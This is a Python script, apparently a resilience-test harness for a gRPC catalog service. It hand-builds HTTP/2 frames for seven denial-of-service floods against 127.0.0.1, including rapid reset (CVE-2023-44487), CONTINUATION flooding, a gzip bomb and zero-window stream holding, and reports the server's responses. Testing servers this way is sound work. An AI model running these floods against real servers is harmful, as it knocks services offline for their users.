#!/usr/bin/python3
"""HTTP/2 floods a hostile gRPC client sends, written frame by frame (no client library would
send them): bounded in time and bytes, against 127.0.0.1 only, from the source address
$FLOOD_SOURCE (default 127.0.0.2, so that a proxy tells the attacker from other clients on the
same machine). Prints one JSON line of what it sent and how the server answered.

  h2_flood.py rapid_reset PORT SECONDS      streams opened and reset at once (CVE-2023-44487)
  h2_flood.py continuation PORT SECONDS     one header block that never ends (CONTINUATION flood)
  h2_flood.py big_message PORT SECONDS      a message whose prefix declares 2 GiB, then its bytes
  h2_flood.py gzip_bomb PORT SECONDS        1 MiB of gzip that inflates to 1 GiB, as one GetItem
                                            (or as one message of $FLOOD_METHOD)
  h2_flood.py held_streams PORT SECONDS     2,100 ExportItems streams with a zero window, settings
                                            never acknowledged, held for SECONDS
  h2_flood.py held_answers PORT SECONDS     $FLOOD_STREAMS (default 2,000) ListItems calls on one
                                            connection with a zero window, settings never
                                            acknowledged, sent 100 at a time, each hundred once the
                                            last was answered: answers it never reads; held
                                            SECONDS from the start or until all are sent (~10 s),
                                            then until no answer came for 2 s
  h2_flood.py unfinished PORT SECONDS       $FLOOD_STREAMS (default 1,000) GetItem streams on one
                                            connection, settings never acknowledged, each declaring
                                            a message just under 4 MiB and sent all of it but its
                                            last byte, within the windows granted; held for SECONDS
"""
import json
import os
import socket
import zlib
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
METHOD = "/hotpath.catalog.v1.CatalogService/GetItem"
SOURCE = os.environ.get("FLOOD_SOURCE", "127.0.0.2")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(encoder, method=METHOD, extra=()):
    return encoder.encode([
        (":method", "POST"), (":scheme", "http"), (":path", method),
        (":authority", "127.0.0.1"), ("content-type", "application/grpc"), ("te", "trailers"),
    ] + list(extra))


class Connection:
    """A raw HTTP/2 connection: writes frames, drains and notes what the server says."""

    def __init__(self, port, settings=b""):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5,
                                             source_address=(SOURCE, 0))
        self.sock.setblocking(False)
        self.opened = time.monotonic()
        self.stalled_sends = 0  # sends given up on: the server read nothing for 2 s
        self.closed = False
        self.goaway = False
        self.resets = 0
        self.status = {}
        self.buffer = b""
        self.decoder = hpack.Decoder()
        # What the server lets us send (RFC 9113 6.9): the connection's window, and each stream's.
        self.connection_window = 65535
        self.initial_window = 65535
        self.stream_windows = {}
        # The server's settings are never acknowledged: a hostile client has no need to.
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        view = memoryview(data)
        deadline = time.monotonic() + 2
        while view and not self.closed:
            try:
                n = self.sock.send(view)
                view = view[n:]
            except BlockingIOError:
                self.drain()
                if time.monotonic() > deadline:
                    self.stalled_sends += 1
                    return False  # the server stopped reading
                time.sleep(0.001)
            except OSError:
                self.closed = True
        return not self.closed

    def drain(self):
        while not self.closed:
            try:
                chunk = self.sock.recv(65536)
            except BlockingIOError:
                break
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self.buffer += chunk
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.goaway |= kind == GOAWAY
            self.resets += kind == RST_STREAM
            if kind == SETTINGS and not flags & 0x1:
                for at in range(0, len(payload) - 5, 6):
                    key, value = struct.unpack(">HI", payload[at:at + 6])
                    if key == 0x4:
                        for s in self.stream_windows:
                            self.stream_windows[s] += value - self.initial_window
                        self.initial_window = value
            if kind == WINDOW_UPDATE and len(payload) == 4:
                increment = struct.unpack(">I", payload)[0] & 0x7FFFFFFF
                if stream == 0:
                    self.connection_window += increment
                else:
                    self.stream_windows[stream] = self.stream_windows.get(stream, self.initial_window) + increment
            if kind == HEADERS and flags & END_HEADERS:
                try:
                    for name, value in self.decoder.decode(payload[1 + payload[0]:] if flags & 0x8 else payload):
                        if name in ("grpc-status", b"grpc-status", "grpc-message", b"grpc-message"):
                            key = name if isinstance(name, str) else name.decode()
                            self.status.setdefault(stream, {})[key] = value if isinstance(value, str) else value.decode()
                except Exception:  # noqa: BLE001 - a header block this reader cannot follow
                    pass
            self.buffer = self.buffer[9 + length:]

    def send_data(self, stream, data, end_stream, deadline):
        """DATA frames within the flow-control windows the server grants; False once the server
        stops granting (nothing more may be sent before deadline) or closes."""
        self.stream_windows.setdefault(stream, self.initial_window)
        at = 0
        while at < len(data) or (at == 0 and not data):
            size = min(16384, len(data) - at)
            while size and min(self.connection_window, self.stream_windows[stream]) < size:
                self.drain()
                if self.closed or self.resets or time.monotonic() > deadline:
                    return False
                time.sleep(0.001)
            last = at + size >= len(data)
            if not self.send(frame(DATA, END_STREAM if (end_stream and last) else 0, stream,
                                   data[at:at + size])):
                return False
            self.connection_window -= size
            self.stream_windows[stream] -= size
            at += size
            if not data:
                break
        return True

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(port, seconds):
    opened, connections, goaways, refused = 0, 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            conn = Connection(port)
        except OSError:
            refused += 1
            time.sleep(0.01)
            continue
        connections += 1
        encoder = hpack.Encoder()
        stream = 1
        while time.monotonic() < end and not conn.closed and not conn.goaway and stream < 2**31 - 2:
            burst = b""
            for _ in range(100):
                burst += frame(HEADERS, END_HEADERS, stream, request_headers(encoder))
                burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))  # CANCEL
                stream += 2
                opened += 1
            conn.send(burst)
            conn.drain()
        goaways += conn.goaway
        conn.close()
    return {"attack": "rapid_reset", "streams": opened, "connections": connections,
            "goaways": goaways, "refused_connects": refused}


def continuation(port, seconds):
    sent, connections, closed_by_server = 0, 0, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and sent < (256 << 20):
        conn = Connection(port)
        connections += 1
        encoder = hpack.Encoder()
        conn.send(frame(HEADERS, 0, 1, request_headers(encoder)))  # no END_HEADERS
        junk = frame(CONTINUATION, 0, 1, encoder.encode([("x-junk", "j" * 16000)]))
        while time.monotonic() < end and not conn.closed and sent < (256 << 20):
            if not conn.send(junk * 4):
                break
            sent += 4 * len(junk)
            conn.drain()
        closed_by_server += conn.closed or conn.goaway
        conn.close()
    return {"attack": "continuation", "bytes": sent, "connections": connections,
            "closed_by_server": closed_by_server}


def big_message(port, seconds):
    conn = Connection(port)
    encoder = hpack.Encoder()
    conn.send(frame(HEADERS, END_HEADERS, 1, request_headers(encoder)))
    first = b"\x00" + struct.pack(">I", 2**31 - 1)  # uncompressed, 2 GiB declared
    end = time.monotonic() + seconds
    sent = 0
    if conn.send_data(1, first, False, end):
        chunk = b"\x00" * (256 << 10)
        while time.monotonic() < end and sent < (1 << 30):
            if not conn.send_data(1, chunk, False, end):
                break  # the server stopped granting window, reset the stream or closed
            sent += len(chunk)
    conn.drain()
    result = {"attack": "big_message", "bytes": sent, "reset": conn.resets > 0,
              "closed_by_server": conn.closed or conn.goaway}
    conn.close()
    return result


def gzip_bomb(port, seconds):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    payload = b"".join(packer.compress(block) for _ in range(1024)) + packer.flush()
    conn = Connection(port)
    encoder = hpack.Encoder()
    method = os.environ.get("FLOOD_METHOD", METHOD)
    conn.send(frame(HEADERS, END_HEADERS, 1,
                    request_headers(encoder, method, extra=[("grpc-encoding", "gzip")])))
    message = b"\x01" + struct.pack(">I", len(payload)) + payload
    sent_all = conn.send_data(1, message, True, time.monotonic() + seconds)
    end = time.monotonic() + seconds
    while time.monotonic() < end and 1 not in conn.status and not conn.closed and not conn.resets:
        conn.drain()
        time.sleep(0.005)
    result = {"attack": "gzip_bomb", "compressed_bytes": len(payload), "sent_all": sent_all,
              "grpc_status": conn.status.get(1, {}), "reset": conn.resets > 0}
    conn.close()
    return result


def zero_window_connection(port):
    # SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send headers, not one byte of a message.
    return Connection(port, settings=struct.pack(">HI", 0x4, 0)), hpack.Encoder()


def send_call(conn, encoder, stream, method, message):
    """One whole call: its headers, and its message ending the stream."""
    conn.send(frame(HEADERS, END_HEADERS, stream, request_headers(encoder, method)) +
              frame(DATA, END_STREAM, stream, b"\x00" + struct.pack(">I", len(message)) + message))
    conn.drain()


def hold_until(conn, end):
    while time.monotonic() < end and not conn.closed:
        conn.drain()
        time.sleep(0.05)


def hold_until_quiet(conn, end, quiet=2.0, limit=60.0):
    """Holds until end, then for as long as answers keep coming (one in the last `quiet`
    seconds), but not past end + limit: a loaded server may still be getting to the calls."""
    hold_until(conn, end)
    count, changed = len(conn.status), time.monotonic()
    while not conn.closed and time.monotonic() - changed < quiet and time.monotonic() < end + limit:
        hold_until(conn, time.monotonic() + 0.2)
        if len(conn.status) != count:
            count, changed = len(conn.status), time.monotonic()


def answered(conn, attack, streams):
    """The report of a flood of whole calls: their grpc-status codes, counted."""
    codes = {}
    for status in conn.status.values():
        codes[status.get("grpc-status", "?")] = codes.get(status.get("grpc-status", "?"), 0) + 1
    result = {"attack": attack, "streams": streams, "answered": codes, "resets": conn.resets,
              "closed_by_server": conn.closed or conn.goaway, "stalled_sends": conn.stalled_sends,
              "seconds": round(time.monotonic() - conn.opened, 1)}
    conn.close()
    return result


def held_streams(port, seconds):
    conn, encoder = zero_window_connection(port)
    for n in range(2100):
        send_call(conn, encoder, 2 * n + 1, "/hotpath.catalog.v1.CatalogService/ExportItems", b"")
    hold_until(conn, time.monotonic() + seconds)
    return answered(conn, "held_streams", 2100)


def held_answers(port, seconds):
    conn, encoder = zero_window_connection(port)
    streams = int(os.environ.get("FLOOD_STREAMS", "2000"))
    end = time.monotonic() + seconds
    for n in range(streams):
        send_call(conn, encoder, 2 * n + 1, "/hotpath.catalog.v1.CatalogService/ListItems",
                  b"\x08\xe8\x07")  # ListItemsRequest{page_size: 1000}
        if n % 100 == 99:
            hold_until(conn, time.monotonic() + 0.5)  # time for the hundred to be answered
    hold_until_quiet(conn, end)
    return answered(conn, "held_answers", streams)


def unfinished(port, seconds):
    streams = int(os.environ.get("FLOOD_STREAMS", "1000"))
    declared = (4 << 20) - 64  # under gRPC's default limit, so that it waits for the rest
    conn = Connection(port)
    encoder = hpack.Encoder()
    end = time.monotonic() + seconds
    left = {}
    for stream in range(1, 2 * streams, 2):
        conn.send(frame(HEADERS, END_HEADERS, stream, request_headers(encoder)))
        conn.send_data(stream, b"\x00" + struct.pack(">I", declared), False, end)
        left[stream] = declared
        conn.drain()
    # Round robin over the streams, a frame each in turn, as much as each window allows, never
    # the last byte: they all fill together (filled one after another, most were cancelled).
    sent = 0
    zeros = b"\x00" * 16384
    while time.monotonic() < end and not conn.closed:
        conn.drain()
        burst, size_of_burst = [], 0
        for stream, remaining in left.items():
            size = min(16384, conn.connection_window - size_of_burst, conn.stream_windows[stream],
                       remaining - 1)
            if size > 0:
                burst.append(frame(DATA, 0, stream, zeros[:size]))
                conn.stream_windows[stream] -= size
                left[stream] -= size
                size_of_burst += size
        if not burst:
            time.sleep(0.01)  # every window used up: wait for more, or for the end
            continue
        conn.connection_window -= size_of_burst
        if not conn.send(b"".join(burst)):
            break
        sent += size_of_burst
    result = {"attack": "unfinished", "streams": streams, "sent_mib": round(sent / (1 << 20), 1),
              "resets": conn.resets, "closed_by_server": conn.closed or conn.goaway}
    conn.close()
    return result


if __name__ == "__main__":
    attack, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attacks = {"rapid_reset": rapid_reset, "continuation": continuation, "big_message": big_message,
               "gzip_bomb": gzip_bomb, "held_streams": held_streams, "held_answers": held_answers,
               "unfinished": unfinished}
    print(json.dumps(attacks[attack](port, seconds)), flush=True)
